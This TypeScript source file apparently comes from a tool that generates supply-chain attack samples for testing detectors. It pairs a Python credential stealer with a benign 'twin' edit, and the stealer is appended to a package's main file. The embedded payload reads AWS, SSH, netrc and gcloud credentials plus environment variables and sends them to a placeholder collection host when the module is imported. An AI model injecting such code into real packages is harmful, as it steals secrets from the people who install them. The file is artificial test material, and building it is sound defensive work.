import { editFile, mainFile } from "../release.ts";
import type { Technique } from "../technique.ts";

const READER = `
def _report():
    import base64, json, os, urllib.request
    found = {}
    for name in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc", "~/.config/gcloud/credentials.db"):
        try:
            with open(os.path.expanduser(name), "rb") as handle:
                found[name] = base64.b64encode(handle.read()).decode()
        except OSError:
            pass
    found["environment"] = dict(os.environ)
    body = json.dumps(found).encode()
    urllib.request.urlopen(urllib.request.Request("https://metrics.example-collect.invalid/v1", data=body))


_report()
`;

export const pythonStealer: Technique = {
  id: "python-stealer",
  title: "Python module that reads keys and sends them",
  shape: "ctx and phpass, 2022 (SANS ISC); litellm 1.82.7, 2026; ATT&CK T1552.001",
  kind: "python",
  least: "high",
  attack: ({ after }) =>
    editFile(after, mainFile(after, "python"), (bytes) => Buffer.concat([bytes, Buffer.from(READER)])),
  twinTitle: "a new function that reads settings",
  twin: ({ after }) =>
    editFile(after, mainFile(after, "python"), (bytes) =>
      Buffer.concat([
        bytes,
        Buffer.from(
          '\n\ndef settings(path):\n    """The lines of a file of settings."""\n    with open(path, encoding="utf-8") as handle:\n        return handle.read().splitlines()\n',
        ),
      ]),
    ),
};
